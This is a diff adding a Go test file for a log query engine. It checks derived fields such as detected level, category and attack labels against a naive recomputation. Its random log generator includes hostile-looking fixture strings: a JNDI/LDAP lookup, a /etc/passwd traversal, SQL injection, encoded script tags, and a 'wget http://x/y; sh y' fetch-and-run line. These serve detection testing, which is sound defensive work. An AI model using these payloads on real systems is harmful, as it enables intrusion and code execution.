@@ -1,0 +1,324 @@
+package query_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/stere-log/stere/meaning"
+	"github.com/stere-log/stere/model"
+	"github.com/stere-log/stere/query"
+	"github.com/stere-log/stere/query/derived"
+	"github.com/stere-log/stere/storage/part"
+	"github.com/stere-log/stere/storage/segment/segmenttest"
+)
+
+// deeds are records that say all kinds of things: with and without variables, with values
+// that messages repeat, and some with fields of their own that could be made.
+func deeds(random *rand.Rand, n int) []model.Record {
+	pick := func(of ...string) string { return of[random.IntN(len(of))] }
+	records := make([]model.Record, n)
+	for i := range records {
+		user := fmt.Sprintf("%s-login-%s", pick("payment", "disk", "anna"), strings.Repeat(pick("x", "y", "z"), 1+random.IntN(20)))
+		message := pick(
+			"user "+user+" opened the door",
+			fmt.Sprintf("Failed password for invalid user %s from 10.0.0.%d port %d ssh2", user, random.IntN(99), random.IntN(9999)),
+			fmt.Sprintf("SQL injection attack number %d", random.IntN(500)),
+			"the author saved the rapid build", "disk full", "login2 payments3 are no words", "logged in",
+			fmt.Sprintf("logged %d in", random.IntN(9)),
+			fmt.Sprintf("slow query took %d ms", random.IntN(9000)),
+			fmt.Sprintf("GET /a%%3Fx=%d%%3Cscript%%3E HTTP/1.1", random.IntN(99)), fmt.Sprintf("lookup %d of ${jndi:ldap://x/%d}", i, i),
+			fmt.Sprintf("GET /?f=../../%d/etc/passwd&u=%s' or 1=1-- HTTP/1.1", i, user), "wget http://x/y; sh y",
+			fmt.Sprintf("2024-01-31 10:00:%02d ERROR disk %d is full", random.IntN(60), i), "[warn] "+user, fmt.Sprintf("<%d>login failed", random.IntN(192)), `{"severity":40,"msg":"x"}`,
+			fmt.Sprintf("10.0.0.%d - - [x] \"GET /%d HTTP/1.1\" %d 7 \"-\" \"%s\"", random.IntN(9), i, 400+random.IntN(110), pick("curl/8.5.0", user, "Mozilla/5.0 (iPad; CPU OS 15_4 like Mac OS X) Version/15.4 Safari/604.1")),
+			"slowQuery in PaymentService", "", "\x11 log\x11in payment\x01card", "Größe der disk",
+		)
+		r := &records[i]
+		r.Time = day + int64(random.IntN(n))
+		r.Fields = []model.Field{field("n", fmt.Sprint(i)), {Name: "message", Kind: model.String, Text: message}, field("user", user)}
+		if random.IntN(2) == 0 {
+			r.Fields = append(r.Fields, field("component", pick("auth-service", "db", "web", "PaymentService")))
+		}
+		if random.IntN(2) == 0 {
+			r.Fields = append(r.Fields, field("level", pick("info", "error", "critical", "warn")))
+		}
+		if random.IntN(3) == 0 {
+			r.Fields = append(r.Fields, field("endpoint", pick("/login", "/orders/7", "/", "/x?id=1%27%20or%201%3D1--%20")))
+		}
+		if random.IntN(4) == 0 {
+			r.Fields = append(r.Fields, field("status", pick("200", "404", "503", "7")), field("duration", pick("3", "5001", "9999")))
+		}
+		if random.IntN(4) == 0 {
+			r.Fields = append(r.Fields, field("method", pick("GET", "")))
+		}
+		if random.IntN(5) == 0 {
+			r.Fields = append(r.Fields, field("user_agent", pick("curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "")))
+		}
+		switch random.IntN(9) {
+		case 0:
+			r.Fields = append(r.Fields, field("category", pick("security", "mine", "7")))
+		case 1:
+			r.Fields = append(r.Fields, model.Field{Name: "category", Kind: model.Null})
+		}
+	}
+	return records
+}
+
+// naiveDerived returns the fields that are made of a record, by a look at its texts.
+func naiveDerived(r *model.Record) map[string]string {
+	text := func(name string) string {
+		f, _ := r.Get(name)
+		return f.Text
+	}
+	level, _ := model.ParseLevel(text("level"))
+	made := map[string]string{}
+	if text("level") == "" {
+		level = meaning.DetectLevel(text("message"))
+		if method, ok := r.Get("method"); ok && level == model.LevelNone && method.Text != "" {
+			level = meaning.LevelOfStatus(text("status"))
+		}
+		if level != model.LevelNone {
+			made[derived.DetectedLevel] = level.String()
+		}
+	}
+	verdict := meaning.Judge(meaning.Evidences{
+		Message: meaning.Evidence(text("message")), Component: meaning.Evidence(text("component")), Endpoint: meaning.Evidence(text("endpoint")),
+		IsError: level >= model.LevelError,
+	})
+	var labels []string
+	for _, label := range verdict.Labels {
+		labels = append(labels, string(label.Category))
+	}
+	list, _ := json.Marshal(labels)
+	made[derived.Category], made[derived.Categories], made[derived.CategoryReason] = labels[0], string(list), verdict.Reason
+	var attacks, reasons []string
+	inMessage, inEndpoint := meaning.Attacks(text("message")), meaning.Attacks(text("endpoint"))
+	for _, name := range meaning.AttackNames() {
+		is := func(f meaning.Finding) bool { return f.Attack == name }
+		if i := slices.IndexFunc(inMessage, is); i >= 0 {
+			attacks, reasons = append(attacks, string(name)), append(reasons, string(name)+": "+inMessage[i].Signature+" in the message")
+		} else if i := slices.IndexFunc(inEndpoint, is); i >= 0 {
+			attacks, reasons = append(attacks, string(name)), append(reasons, string(name)+": "+inEndpoint[i].Signature+" in a field")
+		}
+	}
+	if len(attacks) > 0 {
+		list, _ = json.Marshal(attacks)
+		made[derived.Attack], made[derived.AttackReason] = string(list), strings.Join(reasons, "; ")
+	}
+	took := meaning.DurationUnknown
+	if f, ok := r.Get("duration"); ok {
+		took = meaning.DurationShort
+		if len(f.Text) > 3 && f.Text > "5000" {
+			took = meaning.DurationLong
+		}
+	}
+	var names []meaning.Attack
+	for _, attack := range attacks {
+		names = append(names, meaning.Attack(attack))
+	}
+	signals := meaning.Signals(took, meaning.SignalsIn(text("message")), meaning.SignalsIn(text("endpoint")), meaning.SignalsIn(text("component")),
+		meaning.SignalsOfStatus(text("status")), meaning.SignalsOfAttacks(names))
+	var ids []string
+	for _, signal := range signals {
+		ids = append(ids, signal.ID)
+	}
+	if len(ids) > 0 {
+		list, _ = json.Marshal(ids)
+		made[derived.Signal], made[derived.SignalSeverity], made[derived.SignalConfidence] = string(list), signals[0].Severity, fmt.Sprint(signals[0].Confidence)
+	}
+	request, _ := meaning.RequestOf(text("message"))
+	method, status := strings.ToUpper(text("method")), text("status")
+	if meaning.LevelOfStatus(status) == model.LevelNone {
+		status = request.Status
+	}
+	if method == "" {
+		method = request.Method
+	}
+	userAgent := text("user_agent")
+	if userAgent == "" {
+		userAgent = request.Agent
+	}
+	agent := meaning.AgentOf(userAgent)
+	for name, value := range map[string]string{
+		"http.request.method": method, "http.response.status_code": status, "user_agent.name": agent.Name, "user_agent.os.name": agent.OS, "user_agent.device.type": agent.DeviceKind,
+	} {
+		if value != "" {
+			made[name] = value
+		}
+	}
+	if text("level") != "" {
+		made[model.FieldLevel] = text("level")
+	}
+	for name := range made {
+		if own, ok := r.Get(name); ok && own.Kind != model.Null {
+			made[name] = own.Text
+		}
+	}
+	return made
+}
+
+// TestDerivedIsNaive asks for fields that are made in every way and compares with a look
+// at each record: in blocks, sealed and on several nodes.
+func TestDerivedIsNaive(t *testing.T) {
+	random := rand.New(rand.NewPCG(71, 72))
+	records := deeds(random, 700)
+	values := map[string]map[string][]int{} // by field, then value: the numbers of records
+	for i := range records {
+		for name, value := range naiveDerived(&records[i]) {
+			if values[name] == nil {
+				values[name] = map[string][]int{}
+			}
+			values[name][value] = append(values[name][value], i)
+		}
+	}
+	if len(values[derived.Category]) < 7 {
+		t.Fatalf("only %d categories: the test is broken", len(values[derived.Category]))
+	}
+	heads := deal(t, random, records, 3, 3)
+	sealed := make(shardSet, len(heads))
+	for i, parts := range heads {
+		sealed[i] = []part.Part{segmenttest.Seal(t, model.ShardID(i), parts)}
+	}
+	apart, _ := scatter(random, sealed, 2, query.Config{})
+	for name, shards := range map[string]query.Shards{"head": heads, "sealed": sealed, "scattered": apart} {
+		engine := query.New(shards, query.Config{})
+		for made, want := range values {
+			for range 2 { // the second time from what is kept
+				rows := search(t, engine, query.Request{Text: "* | stats count() by (" + made + ")"}).Rows
+				got := map[string]int64{}
+				for _, row := range rows {
+					got[cellText(row[0])] += row[1].(int64)
+				}
+				for value, numbers := range want {
+					if got[value] != int64(len(numbers)) {
+						t.Errorf("%s: %d records with %s %q, want %d", name, got[value], made, value, len(numbers))
+					}
+				}
+				delete(got, "null")
+				if len(got) != len(want) {
+					t.Errorf("%s: %d values of %s, want %d: %v", name, len(got), made, len(want), got)
+				}
+			}
+			for value, numbers := range want {
+				if random.IntN(len(want)/8+1) > 0 {
+					continue // of many values some
+				}
+				checkDerived(t, name, engine, made, value, numbers, records)
+			}
+		}
+		facets := search(t, engine, query.Request{Text: "*", Facets: []string{derived.Category}}).Facets[derived.Category]
+		for _, facet := range facets {
+			if want := values[derived.Category][cellText(facet.Value)]; facet.Count != uint64(len(want)) {
+				t.Errorf("%s: the facet counts %d of %v, want %d", name, facet.Count, facet.Value, len(want))
+			}
+		}
+		if len(facets) == 0 {
+			t.Errorf("%s: no facets", name)
+		}
+	}
+}
+
+// cellText returns a cell as a record has it.
+func cellText(cell any) string {
+	if text, ok := cell.(string); ok {
+		return text
+	}
+	data, err := json.Marshal(cell)
+	if err != nil {
+		return err.Error()
+	}
+	return string(data)
+}
+
+// checkDerived asks for one value of a field.
+func checkDerived(t *testing.T, name string, engine *query.Engine, made, value string, numbers []int, records []model.Record) {
+	t.Helper()
+	is := fmt.Sprintf("%s:=%q", made, value)
+	isList := made == derived.Categories || made == derived.Attack || made == derived.Signal
+	if isList {
+		var labels []string
+		if json.Unmarshal([]byte(value), &labels) != nil {
+			t.Fatalf("no list: %q", value)
+		}
+		is, numbers = fmt.Sprintf("%s:=%q", made, labels[0]), nil
+		for i := range records {
+			var has []string
+			if json.Unmarshal([]byte(naiveDerived(&records[i])[made]), &has) == nil && slices.Contains(has, labels[0]) {
+				numbers = append(numbers, i)
+			}
+		}
+	}
+	n, all := int64(len(numbers)), int64(len(records))
+	errors := int64(0)
+	for _, i := range numbers {
+		if naiveDerived(&records[i])[model.FieldLevel] == "error" {
+			errors++
+		}
+	}
+	texts := map[string]int64{
+		is + " | stats count()":                                     n,
+		"-" + is + " | stats count()":                               all - n,
+		is + ` n:* | stats count()`:                                 n,
+		is + " level:=error | stats count()":                        errors,
+		"NOT (" + is + " OR -n:*) | stats count()":                  all - n,
+		"* | stats count_if(" + is + ")":                            n,
+		"(" + is + " OR (" + is + " level:=error)) | stats count()": n,
+	}
+	if !isList {
+		texts[fmt.Sprintf("* | where %s == %q | stats count()", made, value)] = n
+		texts[fmt.Sprintf("* | eval c = %s | where c == %q | stats count()", made, value)] = n
+	}
+	for text, want := range texts {
+		if got := search(t, engine, query.Request{Text: text}).Rows[0][0]; got != want {
+			t.Errorf("%s: %s: %v, want %d", name, text, got, want)
+		}
+	}
+	found := search(t, engine, query.Request{Text: is + " | fields n, " + made + " | limit 5"})
+	for _, hit := range found.Hits {
+		got, _ := hit.Record.Get(made)
+		if i := number(t, &hit.Record); got.Text != naiveDerived(&records[i])[made] {
+			t.Errorf("%s: record %d has %q, want %q", name, i, got.Text, naiveDerived(&records[i])[made])
+		}
+	}
+	if len(found.Hits) != min(5, len(numbers)) {
+		t.Errorf("%s: %d hits for %s", name, len(found.Hits), is)
+	}
+	for _, hit := range search(t, engine, query.Request{Text: is, Limit: 3}).Hits {
+		own, has := records[number(t, &hit.Record)].Get(made)
+		if got, has2 := hit.Record.Get(made); has != has2 || got != own {
+			t.Errorf("%s: a record has a field that it did not come with", name)
+		}
+	}
+}
+
+// TestRestrictionOnMade checks that a restriction on a field that is made holds whatever
+// is asked.
+func TestRestrictionOnMade(t *testing.T) {
+	var records []model.Record
+	for i := range 40 {
+		message := fmt.Sprintf("all is well %d", i)
+		if i%4 == 0 {
+			message = fmt.Sprintf("ERROR: disk %d failed", i)
+		}
+		records = append(records, model.Record{Time: int64(i + 1), Fields: []model.Field{{Name: model.FieldMessage, Kind: model.String, Text: message}}})
+	}
+	engine := query.New(deal(t, rand.New(rand.NewPCG(7, 8)), records, 2, 2), query.Config{})
+	for _, name := range []string{"detected_level", `"detected_level"`} {
+		for restriction, want := range map[string]uint64{name + ":error": 10, "NOT " + name + ":error": 30} {
+			audience := query.Audience{Tenant: model.DefaultTenant, Restriction: restriction}
+			for _, text := range []string{"*", "* | fields message, category", "category:* OR NOT category:*", "NOT detected_level:fatal"} {
+				result := search(t, engine, query.Request{Audience: audience, Text: text, Limit: 100})
+				if uint64(len(result.Hits)) != want {
+					t.Errorf("%s, %s: %d records, want %d", restriction, text, len(result.Hits), want)
+				}
+			}
+		}
+	}
+	result := search(t, engine, query.Request{Text: "*", Limit: 100, Filters: []query.Filter{{Field: derived.DetectedLevel, Values: []string{"error"}}}})
+	if len(result.Hits) != 10 {
+		t.Errorf("the filter finds %d records, want 10", len(result.Hits))
+	}
+}
